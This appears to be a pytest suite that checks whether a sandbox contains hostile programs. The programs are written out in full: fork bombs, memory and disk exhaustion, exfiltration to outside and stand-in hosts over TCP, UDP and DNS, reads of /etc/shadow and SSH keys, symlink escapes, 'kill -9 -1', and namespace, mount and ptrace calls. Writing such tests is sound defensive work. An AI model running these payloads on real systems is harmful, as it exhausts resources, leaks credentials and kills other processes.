"""Hostile code against skyplex.sandbox: every attack here must be stopped, and the host must not notice.

Each test runs a small attacker program with tight limits and then checks the host side (files,
processes, servers) rather than trusting the attacker's own output.
"""

from __future__ import annotations

import os
import signal
import socket
import subprocess
import threading
import time
from pathlib import Path

import pytest

from skyplex.sandbox import Sandbox, SandboxPolicy, available

OK, REASON = available()
pytestmark = pytest.mark.skipif(not OK, reason=f"sandbox unavailable here: {REASON}")

TIGHT = SandboxPolicy(memory_mb=256, cpu_seconds=2, file_size_mb=8, disk_mb=48, open_files=64, processes=32,
                      wall_timeout_s=4, tmp_size_mb=8)


@pytest.fixture
def ws():
    with Sandbox().temp_workspace() as path:
        yield path


def py(code: str) -> list[str]:
    return ["python3", "-c", code]


def _host_procs_with(uid: int, marker: str) -> list[int]:
    """Host pids of ``uid`` whose command line holds ``marker``: other programs sandboxed on the same
    machine at the same time (same uid) are not mistaken for leftovers of this run."""
    pids = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                status = Path(f"/proc/{entry}/status").read_text()
                cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
            except OSError:
                continue
            uid_line = next((line for line in status.splitlines() if line.startswith("Uid:")), "")
            if uid_line and int(uid_line.split()[1]) == uid and marker.encode() in cmdline:
                pids.append(int(entry))
    return pids


def _no_leftovers(policy: SandboxPolicy, marker: str) -> None:
    if os.geteuid() != 0:
        return  # the sandbox then runs as our own uid, so we cannot tell its processes from ours
    assert _host_procs_with(policy.host_uid, marker) == [], "sandboxed processes outlived the run"


def test_fork_bomb_is_contained(ws):
    code = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
    t = time.monotonic()
    res = Sandbox(TIGHT).run(py(code), workspace=ws, timeout=3)
    assert res.killed_by in ("timeout", "cpu")
    assert time.monotonic() - t < 10
    _no_leftovers(TIGHT, "os.fork()")
    assert subprocess.run(["true"]).returncode == 0  # the host can still fork


def test_shell_fork_bomb_is_contained(ws):
    # the parent stays alive so the bomb runs into the process limit; without the sleep the shell
    # returns at once and the run may end (killing the bomb) before any fork has failed
    res = Sandbox(TIGHT).run(["sh", "-c", "b() { b | b & }; b; sleep 2"], workspace=ws, timeout=3)
    assert b"Cannot fork" in res.stderr or res.killed_by
    _no_leftovers(TIGHT, "b | b")


def test_memory_bomb_is_refused(ws):
    res = Sandbox(TIGHT).run(py("x = []\nwhile True:\n    x.append(bytearray(16 << 20))"), workspace=ws)
    assert res.returncode != 0 and b"MemoryError" in res.stderr


def test_infinite_loop_hits_cpu_limit(ws):
    res = Sandbox(TIGHT).run(py("while True: pass"), workspace=ws, timeout=20)
    assert res.killed_by == "cpu" and res.duration < 10


def test_sleeping_loop_hits_wall_timeout_and_descendants_die(ws):
    code = "import subprocess, time\nsubprocess.Popen(['sleep', '977'])\nwhile True: time.sleep(1)"
    res = Sandbox(TIGHT).run(py(code), workspace=ws, timeout=1)
    assert res.killed_by == "timeout"
    _no_leftovers(TIGHT, "977")


def test_background_child_dies_with_the_run(ws):
    res = Sandbox(TIGHT).run(["sh", "-c", "sleep 977 & echo started"], workspace=ws)
    assert res.ok and res.text().strip() == "started"
    _no_leftovers(TIGHT, "977")


def test_disk_fill_in_workspace_is_stopped(ws):
    code = ("i = 0\nwhile True:\n    open(f'f{i}', 'wb').write(b'x' * (4 << 20))\n    i += 1\n")
    res = Sandbox(TIGHT).run(py(code), workspace=ws, timeout=30)
    assert res.killed_by == "disk"
    written = sum(p.stat().st_size for p in ws.iterdir()) >> 20
    assert written < 48 + 200, f"wrote {written} MB before being stopped"


def test_one_huge_file_is_refused(ws):
    res = Sandbox(TIGHT).run(py("open('big', 'wb').write(b'x' * (64 << 20))"), workspace=ws)
    assert res.returncode != 0
    assert (ws / "big").stat().st_size <= 8 << 20


def test_tmp_fill_is_bounded(ws):
    res = Sandbox(TIGHT).run(["sh", "-c", "for i in 1 2 3 4 5 6 7 8 9 10 11 12; do dd if=/dev/zero of=/tmp/f$i bs=1M count=1 2>&1; done; du -sm /tmp"],
                             workspace=ws)
    assert "No space left" in res.text()
    assert int(res.text().split()[-2]) <= 8


@pytest.fixture
def host_server():
    """A TCP server on the host's loopback that records whether anyone connected."""
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)
    srv.settimeout(0.2)
    hits: list[bytes] = []
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                conn, _ = srv.accept()
            except OSError:
                continue
            hits.append(conn.recv(100))
            conn.close()

    t = threading.Thread(target=accept, daemon=True)
    t.start()
    yield srv.getsockname()[1], hits
    stop.set()
    t.join()
    srv.close()


def test_tcp_exfiltration_fails(ws, host_server):
    port, hits = host_server
    code = (
        "import socket\n"
        "for addr in [('127.0.0.1', %d), ('1.1.1.1', 80), ('10.0.0.1', 80)]:\n"
        "    try:\n"
        "        s = socket.create_connection(addr, timeout=1); s.sendall(b'SECRET'); print('SENT', addr)\n"
        "    except OSError as e:\n"
        "        print('blocked', addr)\n" % port
    )
    res = Sandbox(TIGHT).run(py(code), workspace=ws)
    assert "SENT" not in res.text() and res.text().count("blocked") == 3
    assert hits == []


def test_udp_exfiltration_fails(ws):
    code = (
        "import socket\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "try:\n"
        "    s.sendto(b'SECRET', ('8.8.8.8', 53)); print('SENT')\n"
        "except OSError as e:\n"
        "    print('blocked', e.errno)\n"
    )
    res = Sandbox(TIGHT).run(py(code), workspace=ws)
    assert res.text().startswith("blocked")


def test_dns_exfiltration_fails(ws):
    code = (
        "import socket\n"
        "try:\n"
        "    socket.getaddrinfo('secret-data.example.com', 80); print('RESOLVED')\n"
        "except OSError as e:\n"
        "    print('blocked')\n"
    )
    res = Sandbox(TIGHT).run(py(code), workspace=ws)
    assert res.text().strip() == "blocked"


def test_host_secrets_are_not_visible(ws, tmp_path, monkeypatch):
    secret = Path(ws).parent / f"{Path(ws).name}-vault.key"  # right beside the workspace
    secret.write_text("TOP-SECRET")
    monkeypatch.setenv("API_KEY", "TOP-SECRET")
    try:
        code = (
            "import os, glob\n"
            f"paths = ['/etc/shadow', '/root/.ssh/id_rsa', {str(secret)!r}, '/proc/1/environ', '/proc/self/environ']\n"
            "paths += glob.glob('/home/*/.*') + glob.glob('/work/**', recursive=False)\n"
            "for p in paths:\n"
            "    try:\n"
            "        print(open(p, errors='replace').read())\n"
            "    except OSError:\n"
            "        pass\n"
            "print(os.environ)\n"
        )
        res = Sandbox(TIGHT).run(py(code), workspace=ws)
        assert b"TOP-SECRET" not in res.stdout + res.stderr
    finally:
        secret.unlink()


def test_writes_outside_the_workspace_fail(ws, tmp_path):
    outside = Path(ws).parent
    before = sorted(os.listdir(outside))
    code = (
        "import os\n"
        f"for p in ['/usr/pwned', '/etc/pwned', '/pwned', '../pwned', {str(outside / 'pwned')!r}]:\n"
        "    try:\n"
        "        open(p, 'w').write('x'); print('WROTE', p)\n"
        "    except OSError:\n"
        "        pass\n"
    )
    res = Sandbox(TIGHT).run(py(code), workspace=ws)
    # only the workspace (and the sandbox's private /tmp) is writable; the sandbox's root is read-only
    # (the host's /tmp path is the sandbox's private /tmp inside, so that one write lands there)
    assert set(res.text().split("\n")) <= {"", f"WROTE {outside / 'pwned'}"}
    assert sorted(os.listdir(outside)) == before
    assert not Path("/usr/pwned").exists() and not Path("/etc/pwned").exists() and not Path("/pwned").exists()


def test_symlink_escapes_stay_inside(ws):
    target = Path(ws).parent / f"{Path(ws).name}-target.txt"
    target.write_text("host file")
    os.symlink(str(target), Path(ws) / "link-in")  # planted before the run
    try:
        code = (
            f"import os\nos.symlink({str(target)!r}, 'link-out')\n"
            "for p in ['link-in', 'link-out']:\n"
            "    try:\n"
            "        print(open(p).read())\n"
            "    except OSError:\n"
            "        print('no', p)\n"
            "    try:\n"
            "        open(p, 'w').write('OVERWRITTEN')\n"
            "    except OSError:\n"
            "        pass\n"
        )
        res = Sandbox(TIGHT).run(py(code), workspace=ws)
        assert "host file" not in res.text()
        assert target.read_text() == "host file"
    finally:
        target.unlink()


def test_cannot_kill_host_processes(ws):
    victim = subprocess.Popen(["sleep", "60"])
    try:
        res = Sandbox(TIGHT).run(["sh", "-c", f"kill -9 {victim.pid}; kill -9 -1; pkill sleep; true"], workspace=ws)
        time.sleep(0.2)
        assert victim.poll() is None, "a host process was killed from inside the sandbox"
        assert res.killed_by in (None, "signal")
    finally:
        victim.send_signal(signal.SIGKILL)
        victim.wait()


@pytest.mark.parametrize("cmd", [
    ["unshare", "-U", "true"],
    ["unshare", "-n", "true"],
    ["python3", "-c", "import os; os.unshare(os.CLONE_NEWUSER)"],
    ["bwrap", "--ro-bind", "/", "/", "true"],
])
def test_new_namespaces_are_refused(ws, cmd):
    res = Sandbox(TIGHT).run(cmd, workspace=ws)
    assert res.returncode != 0


def test_mount_and_ptrace_are_refused(ws):
    code = (
        "import ctypes, os\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "print(libc.mount(b'none', b'/tmp', b'tmpfs', 0, None), ctypes.get_errno())\n"
        "print(libc.ptrace(16, 1, None, None), ctypes.get_errno())\n"  # PTRACE_ATTACH to the sandbox's init
        "print(libc.syscall(321, 0, 0, 0), ctypes.get_errno())\n"  # bpf
    )
    res = Sandbox(TIGHT).run(py(code), workspace=ws)
    assert res.ok, res.stderr
    for line in res.text().splitlines():
        rc, err = map(int, line.split())
        assert rc == -1 and err == 1  # EPERM
